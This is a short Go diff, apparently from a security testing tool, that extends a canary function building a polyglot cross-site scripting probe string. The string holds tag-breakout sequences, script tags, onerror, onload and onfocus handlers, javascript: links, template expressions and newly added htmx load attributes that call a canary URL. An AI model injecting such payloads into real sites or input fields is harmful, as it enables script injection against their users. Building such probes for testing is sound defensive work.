@@ -50,7 +50,7 @@ func marker(place string) string { return "<x-hostile " + place + ">" }
 func (c *canary) payload(place string) string {
 	u := c.URL + "/" + place
 	return marker(place) + `'"--></script></style></title></textarea><script>alert(1)</script><img src=` + u + ` onerror=alert(2)>` +
-		`<svg onload=alert(3)><a href="javascript:alert(4)" autofocus onfocus=alert(5)>{{.}}${alert(6)}</a>`
+		`<svg onload=alert(3)><p hx-get="` + u + `-hx" hx-trigger=load hx-on::load=alert(7) data-live=` + u + `-live><a href="javascript:alert(4)" autofocus onfocus=alert(5)>{{.}}${alert(6)}</a>`
 }
 
 // brief is a payload for a place that takes few bytes.
